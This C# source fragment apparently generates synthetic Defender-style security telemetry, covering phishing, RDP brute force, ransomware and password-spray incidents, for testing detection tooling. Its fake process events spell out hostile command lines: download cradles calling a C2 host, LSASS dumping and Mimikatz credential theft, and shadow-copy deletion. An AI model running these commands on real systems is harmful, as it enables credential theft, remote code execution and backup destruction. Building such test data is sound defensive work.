            r["ThreatNames"] = threat.Length > 0 ? threat + ":Generic" : "";
            r["DetectionMethods"] = threat.Length > 0 ? "{\"" + threat + "\":[\"URL detonation reputation\"]}" : "";
            r["ConfidenceLevel"] = threat.Length > 0 ? "{\"" + threat + "\":\"High\"}" : "";
            r["BulkComplaintLevel"] = bulk;
            r["EmailAction"] = threat.Length > 0 && action == "Blocked" ? "Send to quarantine" : "";
            r["AuthenticationDetails"] = auth.Length > 0 ? auth : "{\"SPF\":\"pass\",\"DKIM\":\"pass\",\"DMARC\":\"pass\",\"CompAuth\":\"pass\"}";
            r["AttachmentCount"] = attachments;
            r["UrlCount"] = urls;
            r["EmailLanguage"] = "en";
            r["OrgLevelAction"] = "";
            r["ReportId"] = NewGuid().ToString("N");
            r["AdditionalFields"] = "{}";
            r["LatestDeliveryLocation"] = location;
            r["LatestDeliveryAction"] = action;
            return r;
        }

        private void BackgroundMail()
        {
            (string Address, string Name, string Ip, int Bulk)[] senders =
            [
                ("newsletter@news.fabrikam.com", "Fabrikam News", "40.92.10.5", 6),
                ("deals@shop.adventure-works.com", "Adventure Works", "52.100.3.9", 7),
                ("partner@contoso-partner.com", "Partner Team", "198.51.100.40", 1),
                ("noreply@github.com", "GitHub", "192.30.252.1", 0),
            ];
            string[] subjects = ["Weekly digest", "Your order has shipped", "Project update", "Meeting notes", "Invoice 2291 attached", "Quarterly results"];
            var people = _users.Where(u => u.Name != "svc_backup").ToList();
            for (int i = 0; i < 320; i++)
            {
                User to = Pick(people);
                DateTime t = Ago(TimeSpan.FromDays(7));
                if (i % 4 == 0)
                {
                    User from = Pick(people);
                    Mail(t, from.Upn, from.DisplayName, to, Pick(subjects), "", "Delivered", "Inbox/folder", _random.Next(0, 3), _random.Next(0, 2), "", 0, "Intra-org");
                    continue;
                }

                var s = Pick(senders);
                Mail(t, s.Address, s.Name, to, Pick(subjects), "", "Delivered", "Inbox/folder", _random.Next(0, 6), i % 7 == 0 ? 1 : 0, s.Ip, s.Bulk);
            }

            // Spoofed mail without a sender IP that fails authentication.
            for (int i = 0; i < 3; i++)
            {
                Mail(Ago(TimeSpan.FromDays(2)), "ceo@contoso.com.fake-mail.net", "CEO", Pick(people), "Quick favour", "Spam", "Delivered", "Junk folder", 0, 0, "",
                    auth: "{\"SPF\":\"fail\",\"DKIM\":\"none\",\"DMARC\":\"fail\",\"CompAuth\":\"fail\"}");
            }
        }

        private Dictionary<string, object?> IdentityLogon(DateTime t, User u, string action, string protocol, string ip, string device,
            int destinationPort, string failure = "", object? additional = null)
        {
            Dictionary<string, object?> r = Add("IdentityLogonEvents", t);
            r["ActionType"] = action;
            r["Application"] = "Active Directory";
            r["LogonType"] = protocol == "Kerberos" ? "Resource access" : "Credentials validation";
            r["Protocol"] = protocol;
            r["FailureReason"] = failure;
            r["AccountName"] = u.Name;
            r["AccountDomain"] = "contoso.local";
            r["AccountUpn"] = u.Upn;
            r["AccountSid"] = u.Sid;
            r["AccountObjectId"] = u.ObjectId;
            r["AccountDisplayName"] = u.DisplayName;
            r["DeviceName"] = device;
            r["DeviceType"] = "Desktop";
            r["OSPlatform"] = "Windows";
            r["IPAddress"] = ip;
            r["Port"] = _random.Next(49152, 65535);
            r["DestinationDeviceName"] = "srv-dc-01.contoso.local";
            r["DestinationIPAddress"] = DeviceNamed("srv-dc-01").Ip;
            r["DestinationPort"] = destinationPort;
            r["TargetDeviceName"] = "";
            r["Location"] = "";
            r["ReportId"] = NewGuid().ToString("N");
            r["AdditionalFields"] = additional ?? new DynamicBag([new("Count", (long)_random.Next(1, 5))]);
            return r;
        }

        private void BackgroundIdentity()
        {
            var windows = WindowsDevices.Where(d => d.Name.StartsWith("ws-", StringComparison.Ordinal)).ToList();
            for (int i = 0; i < 260; i++)
            {
                User u = Pick(_users);
                Device d = Pick(windows);
                bool kerberos = i % 3 != 0;
                bool failed = i % 17 == 0;
                IdentityLogon(Ago(TimeSpan.FromDays(3)), u, failed ? "LogonFailed" : "LogonSuccess", kerberos ? "Kerberos" : "Ntlm", d.Ip, d.Name,
                    kerberos ? 88 : 445, failed ? "Account locked out" : "");
            }

            // A service-ticket burst for SQL and HTTP services (kerberoasting-like) with SPNs in AdditionalFields.
            var spns = new DynamicArray(["MSSQLSvc/sql01.contoso.local:1433", "HTTP/web01.contoso.local", "CIFS/srv-file-01.contoso.local"]);
            IdentityLogon(Ago(TimeSpan.FromHours(6)), UserNamed("bob"), "LogonSuccess", "Kerberos", DeviceNamed("ws-hr-02").Ip, DeviceNamed("ws-hr-02").Name, 88,
                additional: new DynamicBag([new("Count", 25L), new("Spns", spns), new("EncryptionType", "RC4")]));
        }

        private readonly List<(SyntheticAlert Alert, string Title)> _alerts = [];

        private SyntheticAlert Alert(DateTime t, string title, string severity, string category, string serviceSource, string detectionSource,
            string graphService, string graphDetection, string techniques, string status = "new")
        {
            string id = "da" + (638_500_000_000_000_000L + (long)(t - DateTime.UnixEpoch).TotalSeconds).ToString(CultureInfo.InvariantCulture)
                + "_" + _random.Next(100_000_000, 999_999_999).ToString(CultureInfo.InvariantCulture);
            Dictionary<string, object?> r = Add("AlertInfo", t);
            r["AlertId"] = id;
            r["Title"] = title;
            r["Category"] = category;
            r["Severity"] = severity;
            r["ServiceSource"] = serviceSource;
            r["DetectionSource"] = detectionSource;
            r["AttackTechniques"] = techniques;
            var alert = new SyntheticAlert(id, title, severity.ToLowerInvariant(), status, category, graphService, graphDetection, t);
            _alerts.Add((alert, title));
            return alert;
        }

        private Dictionary<string, object?> Evidence(SyntheticAlert alert, string entityType, string role, Device? device = null, User? user = null)
        {
            Dictionary<string, object?> r = Add("AlertEvidence", alert.CreatedDateTime);
            r["AlertId"] = alert.Id;
            r["Title"] = alert.Title;
            r["Categories"] = "[\"" + alert.Category + "\"]";
            r["ServiceSource"] = _rows["AlertInfo"].First(a => (string)a["AlertId"]! == alert.Id)["ServiceSource"];
            r["DetectionSource"] = _rows["AlertInfo"].First(a => (string)a["AlertId"]! == alert.Id)["DetectionSource"];
            r["EntityType"] = entityType;
            r["EvidenceRole"] = role;
            r["EvidenceDirection"] = "";
            r["Severity"] = char.ToUpperInvariant(alert.Severity[0]) + alert.Severity[1..];
            r["AdditionalFields"] = "{}";
            if (device is not null)
            {
                r["DeviceId"] = device.Id;
                r["DeviceName"] = device.Name;
                r["LocalIP"] = device.Ip;
            }

            if (user is not null)
            {
                r["AccountName"] = user.Name;
                r["AccountDomain"] = user.Domain;
                r["AccountSid"] = user.Sid;
                r["AccountObjectId"] = user.ObjectId;
                r["AccountUpn"] = user.Upn;
            }

            return r;
        }

        private static void SetFile(Dictionary<string, object?> evidence, Dictionary<string, object?> source)
        {
            evidence["FileName"] = source["FileName"];
            evidence["FolderPath"] = source["FolderPath"];
            evidence["SHA1"] = source["SHA1"];
            evidence["SHA256"] = source["SHA256"];
            evidence["FileSize"] = source.GetValueOrDefault("FileSize");
            if (source.TryGetValue("ProcessCommandLine", out object? command))
            {
                evidence["ProcessCommandLine"] = command;
            }
        }

        private void Incident(long id, string title, string severity, string status, string classification, string determination, string? assignedTo,
            params SyntheticAlert[] alerts)
        {
            DateTime created = alerts.Min(a => a.CreatedDateTime);
            DateTime updated = alerts.Max(a => a.CreatedDateTime) + TimeSpan.FromMinutes(17);
            _incidents.Add(new SyntheticIncident(id, title, severity, status, classification, determination, assignedTo, created, updated, alerts));
        }

        private void AttackOnFinance()
        {
            Device ws = DeviceNamed("ws-finance-01");
            User alice = UserNamed("alice");
            DateTime start = now - TimeSpan.FromMinutes(80);

            // 1. Phishing mail with a URL, delivered to the inbox, clicked 12 minutes later.
            string phishUrl = "https://" + PhishDomain + "/reset?user=alice";
            var phishMails = new List<Dictionary<string, object?>>();
            foreach (User u in new[] { alice, UserNamed("bob"), UserNamed("carol") })
            {
                phishMails.Add(Mail(start - TimeSpan.FromMinutes(40), "it-support@" + PhishDomain, "IT Support", u, "Urgent: your password expires today",
                    "Phish", "Delivered", "Inbox/folder", 1, 0, "185.220.101.50", 0, "Inbound",
                    "{\"SPF\":\"fail\",\"DKIM\":\"none\",\"DMARC\":\"fail\",\"CompAuth\":\"fail\"}"));
            }

            foreach (Dictionary<string, object?> mail in phishMails)
            {
                Dictionary<string, object?> url = Add("EmailUrlInfo", (DateTime)mail["Timestamp"]!);
                url["NetworkMessageId"] = mail["NetworkMessageId"];
                url["Url"] = phishUrl;
                url["UrlDomain"] = PhishDomain;
                url["UrlLocation"] = "Body";
                url["ReportId"] = mail["ReportId"];
            }

            Dictionary<string, object?> click = Add("UrlClickEvents", start - TimeSpan.FromMinutes(28));
            click["Url"] = phishUrl;
            click["ActionType"] = "ClickAllowed";
            click["AccountUpn"] = alice.Upn;
            click["Workload"] = "Email";
            click["NetworkMessageId"] = phishMails[0]["NetworkMessageId"];
            click["ThreatTypes"] = "Phish";
            click["DetectionMethods"] = "";
            click["IPAddress"] = "203.0.113.10";
            click["IsClickedThrough"] = true;
            click["UrlChain"] = "[\"" + phishUrl + "\"]";
            click["ReportId"] = NewGuid().ToString("N");

            // A malware mail with a zip, blocked.
            Mail(start - TimeSpan.FromHours(20), "billing@fabrikam-invoices.net", "Billing", UserNamed("dave"), "Invoice 4471 overdue", "Malware",
                "Blocked", "Quarantine", 0, 1, "91.215.85.12");

            // 2. A downloaded viewer, executed 10 minutes later.
            Dictionary<string, object?> download = File(start - TimeSpan.FromMinutes(25), ws, alice, "FileCreated", "invoice_viewer.exe",
                @"C:\Users\alice\Downloads", 734_208, "msedge.exe", "http://" + C2Url + "/dl/invoice_viewer.exe");
            Dictionary<string, object?> viewer = Process(start - TimeSpan.FromMinutes(15), ws, alice, "invoice_viewer.exe", @"C:\Users\{user}\Downloads",
                "\"C:\\Users\\alice\\Downloads\\invoice_viewer.exe\"", "explorer.exe", company: "");
            viewer["SHA1"] = download["SHA1"];
            viewer["SHA256"] = download["SHA256"];

            // 3. Word spawning encoded PowerShell (three times), each calling out to the C2.
            string script = "IEX (New-Object Net.WebClient).DownloadString('http://" + C2Url + "/a.ps1')";
            string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(script));
            var word = Process(start - TimeSpan.FromMinutes(5), ws, alice, "winword.exe", @"C:\Program Files\Microsoft Office\root\Office16",
                "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\Invoice_4471.docm\"", "explorer.exe");
            long wordPid = (long)word["ProcessId"]!;
            string[] flags = ["-EncodedCommand", "-enc", "-ec"];
            for (int i = 0; i < 3; i++)
            {
                DateTime t = start + TimeSpan.FromMinutes(20 * i);
                var ps = Process(t, ws, alice, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                    "powershell.exe -NoP -W Hidden " + flags[i] + " " + encoded, "winword.exe", "\"WINWORD.EXE\" /n Invoice_4471.docm", parentPid: wordPid);
                Connection(t + TimeSpan.FromSeconds(4), ws, C2Ip, i == 2 ? 4444 : 443, C2Url, "powershell.exe", (long)ps["ProcessId"]!, alice);
            }

            var cmd = Process(start + TimeSpan.FromMinutes(2), ws, alice, "cmd.exe", @"C:\Windows\System32", "cmd.exe /c \"C:\\Users\\Public\\p.bat\"", "winword.exe",
                parentPid: wordPid);
            _ = cmd;
            Process(start + TimeSpan.FromMinutes(3), ws, alice, "wscript.exe", @"C:\Windows\System32", "wscript.exe C:\\Users\\alice\\AppData\\Local\\Temp\\stage.vbs", "excel.exe");
            Process(start + TimeSpan.FromMinutes(4), ws, alice, "rundll32.exe", @"C:\Windows\System32", "\"C:\\Windows\\System32\\rundll32.exe\"", "winword.exe",
                parentPid: wordPid);
            var proxy = Process(start + TimeSpan.FromMinutes(6), ws, alice, "rundll32.exe", @"C:\Windows\System32",
                "rundll32.exe C:\\Users\\Public\\beacon.dll,Start", "cmd.exe");
            Connection(start + TimeSpan.FromMinutes(6.2), ws, "45.77.12.9", 8443, "cdn-sync.badcdn.net", "rundll32.exe", (long)proxy["ProcessId"]!, alice);

            // 4. Discovery.
            Process(start + TimeSpan.FromMinutes(30), ws, alice, "whoami.exe", @"C:\Windows\System32", "whoami.exe /all", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(31), ws, alice, "net.exe", @"C:\Windows\System32", "net.exe group \"Domain Admins\" /domain", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(32), ws, alice, "net.exe", @"C:\Windows\System32", "net.exe localgroup administrators", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(33), ws, alice, "nltest.exe", @"C:\Windows\System32", "nltest.exe /domain_trusts /all_trusts", "cmd.exe");

            // 5. Download cradles.
            Process(start + TimeSpan.FromMinutes(35), ws, alice, "certutil.exe", @"C:\Windows\System32",
                "certutil.exe -urlcache -split -f http://" + C2Ip + "/payload.bin C:\\Users\\Public\\p.bin", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(36), ws, alice, "bitsadmin.exe", @"C:\Windows\System32",
                "bitsadmin.exe /transfer job1 /download /priority high http://" + C2Ip + "/p2.bin C:\\Users\\Public\\p2.bin", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(37), ws, alice, "mshta.exe", @"C:\Windows\System32", "mshta.exe http://" + C2Url + "/app.hta", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(38), ws, alice, "regsvr32.exe", @"C:\Windows\System32",
                "regsvr32.exe /s /n /u /i:http://" + C2Url + "/file.sct scrobj.dll", "cmd.exe");

            // 6. Credential dumping, elevated, in the SYSTEM logon session.
            var procdump = Process(start + TimeSpan.FromMinutes(45), ws, alice, "procdump64.exe", @"C:\Users\{user}\AppData\Local\Temp",
                "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp", "cmd.exe", integrity: "High", logonId: 999, company: "Sysinternals");
            var mimi = Process(start + TimeSpan.FromMinutes(47), ws, alice, "mimi.exe", @"C:\Temp",
                "mimi.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "cmd.exe", integrity: "High", company: "");
            Process(start + TimeSpan.FromMinutes(48), ws, alice, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                "powershell.exe -ep bypass -c \"IEX (iwr http://" + C2Url + "/im.ps1); Invoke-Mimikatz -DumpCreds\"", "cmd.exe", integrity: "High");

            // 7. A very long obfuscated command line.
            string longCommand = "powershell.exe -NoP -c \"$s='" + string.Concat(Enumerable.Repeat("JABjAGwAaQBlAG4AdAAgAD0A", 48)) + "';iex $s\"";
            Process(start + TimeSpan.FromMinutes(50), ws, alice, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0", longCommand, "cmd.exe");

            // 8. Staging a large archive for exfiltration.
            File(start + TimeSpan.FromMinutes(55), ws, alice, "FileCreated", "finance_q3.7z", @"C:\Users\alice\AppData\Local\Temp", 3_221_225_472L, "7z.exe");

            // A script dropped in a dot-folder of the profile.
            File(start + TimeSpan.FromMinutes(60), ws, alice, "FileCreated", "svc.ps1", @"C:\Users\alice\.cache", 4_311, "powershell.exe");

            // Alerts and the incident.
            SyntheticAlert phishAlert = Alert(start - TimeSpan.FromMinutes(27), "Phishing email delivered and URL clicked", "Medium", "InitialAccess",
                "Microsoft Defender for Office 365", "MDO", "microsoftDefenderForOffice365", "microsoftDefenderForOffice365", "[\"Phishing (T1566)\"]");
            foreach (Dictionary<string, object?> mail in phishMails)
            {
                var e = Evidence(phishAlert, "MailMessage", "Impacted", user: _users.First(u => u.Upn == (string)mail["RecipientEmailAddress"]!));
                e["NetworkMessageId"] = mail["NetworkMessageId"];
                e["EmailSubject"] = mail["Subject"];
            }

            Evidence(phishAlert, "Url", "Related")["RemoteUrl"] = phishUrl;
            Evidence(phishAlert, "User", "Impacted", user: alice);

            SyntheticAlert downloadAlert = Alert(start - TimeSpan.FromMinutes(14), "Suspicious file downloaded and executed", "Low", "Execution",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"User Execution (T1204)\"]");
            SetFile(Evidence(downloadAlert, "File", "Impacted", ws), download);
            Evidence(downloadAlert, "Machine", "Impacted", ws);

            SyntheticAlert psAlert = Alert(start + TimeSpan.FromMinutes(1), "Suspicious PowerShell command line", "High", "Execution",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"PowerShell (T1059.001)\"]");
            Dictionary<string, object?> firstPs = _rows["DeviceProcessEvents"].First(p => ((string)p["ProcessCommandLine"]!).Contains("-EncodedCommand", StringComparison.Ordinal));
            SetFile(Evidence(psAlert, "Process", "Impacted", ws, alice), firstPs);
            Evidence(psAlert, "Machine", "Impacted", ws);
            Evidence(psAlert, "Ip", "Related")["RemoteIP"] = C2Ip;

            SyntheticAlert credAlert = Alert(start + TimeSpan.FromMinutes(46), "Credential dumping of LSASS memory", "High", "CredentialAccess",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"LSASS Memory (T1003.001)\"]");
            SetFile(Evidence(credAlert, "Process", "Impacted", ws, alice), procdump);
            SetFile(Evidence(credAlert, "File", "Impacted", ws), mimi);
            Evidence(credAlert, "Machine", "Impacted", ws);

            Incident(5001, "Multi-stage incident involving Initial access & Credential access on one endpoint", "high", "active", "unknown", "unknown", null,
                phishAlert, downloadAlert, psAlert, credAlert);
        }

        private void RdpBruteForce()
        {
            Device web = DeviceNamed("srv-web-01");
            User admin = UserNamed("dave");
            DateTime hour = new(now.Ticks - (now.Ticks % TimeSpan.TicksPerHour) - (5 * TimeSpan.TicksPerHour), DateTimeKind.Utc);
            DateTime first = hour + TimeSpan.FromMinutes(10);
            string[] guesses = ["administrator", "admin", "dave", "backup", "test"];
            for (int i = 0; i < 32; i++)
            {
                User guess = new(guesses[i % guesses.Length], "CONTOSO", "", "", "", "");
                Logon(first + TimeSpan.FromSeconds(30 * i), web, guess, "LogonFailed", "RemoteInteractive", BruteIp, "Public", 50000 + i, "InvalidUserNameOrPassword");
            }

            Logon(first + TimeSpan.FromMinutes(17), web, admin, "LogonSuccess", "RemoteInteractive", BruteIp, "Public", 50100);
            Logon(first + TimeSpan.FromMinutes(18), web, admin, "LogonSuccess", "Network", BruteIp, "Public", 50101);

            SyntheticAlert alert = Alert(first + TimeSpan.FromMinutes(19), "Successful RDP logon after multiple failures", "Medium", "CredentialAccess",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"Brute Force (T1110)\"]",
                "inProgress");
            Evidence(alert, "Machine", "Impacted", web);
            Evidence(alert, "Ip", "Related")["RemoteIP"] = BruteIp;
            Evidence(alert, "User", "Impacted", user: admin);
            Incident(5002, "RDP brute force against an internet-facing server", "medium", "inProgress", "truePositive", "multiStagedAttack", "secops@contoso.com", alert);
        }

        private void Ransomware()
        {
            Device files = DeviceNamed("srv-file-01");
            User backup = UserNamed("svc_backup");
            DateTime start = now - TimeSpan.FromMinutes(75);
            Process(start, files, backup, "vssadmin.exe", @"C:\Windows\System32", "vssadmin.exe delete shadows /all /quiet", "cmd.exe", integrity: "High");
            Process(start + TimeSpan.FromMinutes(1), files, backup, "wmic.exe", @"C:\Windows\System32\wbem", "wmic.exe shadowcopy delete /nointeractive", "cmd.exe", integrity: "High");
            Process(start + TimeSpan.FromMinutes(2), files, backup, "wbadmin.exe", @"C:\Windows\System32", "wbadmin.exe delete catalog -quiet", "cmd.exe", integrity: "High");
            var encryptor = Process(start + TimeSpan.FromMinutes(3), files, backup, "svch0st.exe", @"C:\ProgramData", "C:\\ProgramData\\svch0st.exe --encrypt \\\\srv-file-01\\share", "cmd.exe",
                integrity: "System", company: "");
            string[] docs = ["budget.xlsx", "payroll.xlsx", "contracts.docx", "plan.pptx", "customers.csv", "Q3 report.docx"];
            for (int i = 0; i < docs.Length * 3; i++)
            {
                string doc = (i / docs.Length).ToString(CultureInfo.InvariantCulture) + "_" + docs[i % docs.Length];
                File(start + TimeSpan.FromMinutes(4) + TimeSpan.FromSeconds(7 * i), files, backup, "FileRenamed", doc + ".locked", @"\\srv-file-01\share\finance",
                    4096L * (i + 3), "svch0st.exe", previousName: doc);
            }

            var note = File(start + TimeSpan.FromMinutes(9), files, backup, "FileCreated", "README_DECRYPT.txt", @"\\srv-file-01\share\finance", 2048, "svch0st.exe");
            File(start + TimeSpan.FromMinutes(9.5), files, backup, "FileCreated", "HOW_TO_RECOVER_FILES.html", @"C:\Users\Public\Desktop", 3072, "svch0st.exe");

            SyntheticAlert alert = Alert(start + TimeSpan.FromMinutes(10), "Ransomware behavior detected in the file system", "High", "Impact",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"Data Encrypted for Impact (T1486)\"]");
            Evidence(alert, "Machine", "Impacted", files);
            SetFile(Evidence(alert, "Process", "Impacted", files, backup), encryptor);
            SetFile(Evidence(alert, "File", "Related", files), note);
            Evidence(alert, "User", "Impacted", user: backup);
            Incident(5003, "Ransomware activity on a file server", "high", "active", "unknown", "unknown", null, alert);
        }

        private void PasswordSpray()
        {
            Device dev = DeviceNamed("ws-dev-03");
            DateTime start = now - TimeSpan.FromHours(9);
            int n = 0;
            foreach (User u in _users)
            {
                for (int k = 0; k < 3; k++)
                {
                    IdentityLogon(start + TimeSpan.FromSeconds(20 * n++), u, "LogonFailed", k % 2 == 0 ? "Ntlm" : "Kerberos", dev.Ip, dev.Name,
                        k % 2 == 0 ? 445 : 88, "Wrong password");
                }
            }

            SyntheticAlert alert = Alert(start + TimeSpan.FromMinutes(9), "Password spray from one endpoint", "Medium", "CredentialAccess",
                "Microsoft Defender for Identity", "MDI", "microsoftDefenderForIdentity", "microsoftDefenderForIdentity", "[\"Password Spraying (T1110.003)\"]",
                "resolved");
            Evidence(alert, "Machine", "Related", dev);
            foreach (User u in _users.Take(3))
            {
                Evidence(alert, "User", "Impacted", user: u);
            }

            Incident(5004, "Password spray against multiple accounts", "medium", "resolved", "truePositive", "maliciousUserActivity", "soc-tier2@contoso.com", alert);
        }

        private void OlderAlerts()
        {
            Device sales = DeviceNamed("ws-sales-04");
            SyntheticAlert eicar = Alert(now - TimeSpan.FromDays(6), "EICAR test file detected", "Informational", "Malware",
                "Microsoft Defender for Endpoint", "Antivirus", "microsoftDefenderForEndpoint", "antivirus", "[]", "resolved");
            var e = Evidence(eicar, "File", "Impacted", sales);
            e["FileName"] = "eicar.com";
            e["SHA1"] = "3395856ce81f2b7382dee72602f798b642f14140";
            e["SHA256"] = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
            Evidence(eicar, "Machine", "Impacted", sales);
            Incident(4990, "EICAR test file on one endpoint", "informational", "resolved", "informationalExpectedActivity", "securityTesting", "secops@contoso.com", eicar);
        }
    }
}
